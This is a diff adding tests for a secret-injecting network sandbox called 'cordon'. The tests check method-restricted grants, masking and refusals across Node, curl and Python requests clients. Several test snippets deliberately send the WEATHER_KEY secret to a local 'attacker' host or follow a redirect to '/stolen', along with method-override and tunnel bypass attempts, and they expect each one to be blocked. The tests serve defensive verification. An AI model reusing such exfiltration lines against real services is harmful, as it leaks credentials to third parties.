@@ -5,6 +5,7 @@ import base64
 import json
 import os
 import pathlib
+import shutil
 import subprocess
 import sys
 import tempfile
@@ -15,6 +16,7 @@ import peers
 
 program = os.environ["CORDON"]
 folder = pathlib.Path(tempfile.mkdtemp(prefix="cordon-secrets-"))
+folder.chmod(0o755)  # packages are read by the user of the cell
 SECRET = "sk/test+" + os.urandom(12).hex() + "=Z"
 OTHER = "other-" + os.urandom(12).hex()
 environment = {**os.environ, "XDG_STATE_HOME": str(folder / "state"), "WEATHER_KEY": SECRET}
@@ -266,6 +268,85 @@ everything = b"".join(p.read_bytes() for p in (folder / "state").rglob("*") if p
 claim("it is not in the log, its name is", SECRET.encode() not in everything and OTHER.encode() not in everything and
       b'"secret":"weather"' in everything, everything[-800:])
 
+# A grant of some methods.
+READS = f"""
+extends: agent
+grants:
+  - net: "127.0.0.1:{plain.port} methods GET,HEAD"
+"""
+(folder / "reads.yaml").write_text(READS)
+G = f"127.0.0.1:{plain.port}"
+for what, code, wanted in (
+    ("GET", f"get('http://{G}/now')", "200 this is the plain host: GET"),
+    ("HEAD", f"get('http://{G}/now', method='HEAD')", "200"),
+    ("POST", f"get('http://{G}/now', data=b'x')", "not granted for this method"),
+    ("DELETE", f"get('http://{G}/now', method='DELETE')", "not granted for this method"),
+    ("small letters", f"raw(head('delete', 'http://{G}/now', '{G}'))", "not granted for this method"),
+    ("another method by a header", f"get('http://{G}/now', {{'X-Method-Override': 'DELETE'}})", "another method"),
+    ("a tunnel", f"raw(head('CONNECT', '{G}', '{G}'))", "within a tunnel"),
+):
+    before = len(plain.requests)
+    record = cell(f"print({code})", policy="reads.yaml")
+    claim(f"read-only: {what}", wanted in said(record) and (wanted.startswith("200") or len(plain.requests) == before), said(record))
+
+# The clients that people use, each against the secret's host, the granted one and the attacker.
+NODE = f"""
+const http = require('http');
+const get = (url) => new Promise((done) => http.get(url, (r) => {{
+  let text = ''; r.on('data', (c) => text += c); r.on('end', () => done(`${{r.statusCode}} ${{text}}`));
+}}).on('error', (e) => done(e.message)));
+(async () => {{
+  const fetched = (url, more) => fetch(url, more).then(async (r) => `${{r.status}} ${{await r.text()}}`, (e) => String(e.cause || e));
+  console.log('fetch', await fetched('http://weather.cordon.internal/echo'));
+  console.log('post', await fetched('http://weather.cordon.internal/now', {{method: 'POST', body: 'abc', headers: {{authorization: 'Bearer ' + process.env.WEATHER_KEY}}}}));
+  console.log('http', await get('http://localhost/now'));
+  console.log('wrong', await fetched('http://127.0.0.1:{attacker.port}/now', {{headers: {{authorization: process.env.WEATHER_KEY}}}}));
+  console.log('tls', await fetched('https://localhost:{granted.port}/now'));
+  console.log('chunks', await fetched('http://weather.cordon.internal/chunks'));
+}})();
+"""
+record = cell(NODE, name="program.js")
+lines = dict(line.split(" ", 1) for line in record["result"]["stdout"].splitlines() if " " in line)
+for word, wanted in {"fetch": "200 ***", "post": "200 this is the secret's host: POST 3", "http": "200 this is the secret's host", "wrong": "403",
+                     "tls": "Error: the gateway refuses", "chunks": "200 before ***"}.items():
+    claim(f"Node: {word}", lines.get(word, "").startswith(wanted), record["result"])
+CURL = """
+import subprocess
+def curl(*words): return subprocess.run(['curl', '-sS', '-w', ' %{http_code}', *words], capture_output=True, text=True)
+print('one', curl('http://weather.cordon.internal/now'))
+print('echo', curl('http://weather.cordon.internal/echo'))
+print('attacker', curl('-H', 'X-Key: ' + os.environ['WEATHER_KEY'], f'http://{A}/now'))
+print('socket', curl('--noproxy', '*', f'http://{A}/now'))
+print('follow', curl('-L', 'http://weather.cordon.internal/redirect?to=http://127.0.0.1:%d/x' % GRANTED))
+"""
+if pathlib.Path("/usr/bin/curl").exists():
+    record = cell(CURL, "--allow-exec", "curl")
+    text = dict(line.split(" ", 1) for line in record["result"]["stdout"].splitlines() if " " in line)
+    for word, wanted in {"one": "this is the secret's host: GET 0 200", "echo": "*** 200", "attacker": " 403", "socket": "returncode=7",
+                         "follow": " 403"}.items():
+        claim(f"curl: {word}", wanted in text.get(word, ""), record["result"])
+packages = folder / "packages"
+packages.mkdir()
+for name in ("requests", "urllib3", "certifi", "chardet", "idna", "six.py", "charset_normalizer"):
+    found = pathlib.Path("/usr/lib/python3/dist-packages") / name
+    if found.is_dir():
+        shutil.copytree(found, packages / name, ignore=shutil.ignore_patterns("__pycache__"))
+    elif found.exists():
+        shutil.copy(found, packages / name)
+record = cell("""
+import requests
+print('one', requests.get('http://weather.cordon.internal/now').text)
+print('session', requests.Session().post(f'http://localhost:{GRANTED}/now', data='abc').text)
+print('bearer', requests.get('http://weather.cordon.internal/echo', headers={'Authorization': 'Bearer ' + os.environ['WEATHER_KEY']}).text)
+print('attacker', requests.get(f'http://{A}/now', headers={'Authorization': os.environ['WEATHER_KEY']}).status_code)
+print('follow', requests.get(f'http://{W}/redirect?to=http://{A}/stolen').text)
+""", "--packages", packages)
+text = dict(line.split(" ", 1) for line in record["result"]["stdout"].splitlines() if " " in line)
+for word, wanted in {"one": "this is the secret's host: GET 0", "session": "this is the secret's host: POST 3", "bearer": "***", "attacker": "403",
+                     "follow": "this is the attacker"}.items():
+    claim(f"requests: {word}", text.get(word, "").startswith(wanted), record["result"])
+claim("the attacker still has nothing", SECRET not in attacker.text() and "cordon-placeholder" not in attacker.text(), attacker.text()[-2000:])
+
 # What is shown without running.
 for words in (["policy", "show"], ["policy", "show", "--format", "json"], ["spec", folder / "program.py"],
               ["spec", "--format", "json", folder / "program.py"]):
@@ -276,6 +357,29 @@ done = subprocess.run([program, "policy", "show", "--policy", folder / "policy.y
 (folder / "shown.yaml").write_text(done.stdout.replace(f"{folder}/./", "./"))
 done = subprocess.run([program, "policy", "check", folder / "shown.yaml"], env=environment, capture_output=True, text=True)
 claim("what policy show prints is a policy", done.returncode == 0, done)
+
+# What a request would become.
+def shown(*words):
+    done = subprocess.run([program, "secrets", *words, "--policy", folder / "policy.yaml"], env=environment, capture_output=True, text=True)
+    assert SECRET not in done.stdout + done.stderr and OTHER not in done.stdout + done.stderr
+    return done.returncode, done.stdout + done.stderr
+
+
+status, text = shown("list")
+claim("secrets list: each with its source, host and form", status == 0 and "variable WEATHER_KEY (there)" in text and
+      "as      Authorization: Bearer {}" in text and "for     https://127.0.0.1" in text and "below /v1 /v2/*" in text, text)
+for url, wanted in (("http://weather.cordon.internal/a?b=c", ("GET /a?b=c HTTP/1.1", "Authorization: Bearer ********", f"Host: localhost:{granted.port}")),
+                    ("http://query.cordon.internal/a?appid=x", ("GET /a?appid=******** HTTP/1.1",)),
+                    ("http://basic.cordon.internal/", ("Authorization: Basic ********\n",)),
+                    (f"http://localhost:{granted.port}/a", ("Authorization: Bearer ********",))):
+    status, text = shown("test", url)
+    claim(f"secrets test {url.split('/')[2].split(':')[0]}: masked", status == 0 and all(w in text for w in wanted), text)
+for words, code, wanted in ((("http://narrow.cordon.internal/admin",), 1, "refused: the secret is not for this path"),
+                            (("http://narrow.cordon.internal/v1", "--method", "POST"), 1, "not for this method"),
+                            (("http://elsewhere.example/",), 1, "no secret is for this request"),
+                            (("https://localhost/",), 2, "not an http URL")):
+    status, text = shown("test", *words)
+    claim(f"secrets test {words}", status == code and wanted in text, text)
 
 # The check knows the endpoints.
 (folder / "check.py").write_text("import os, urllib.request\nos.environ['WEATHER_KEY']\n"
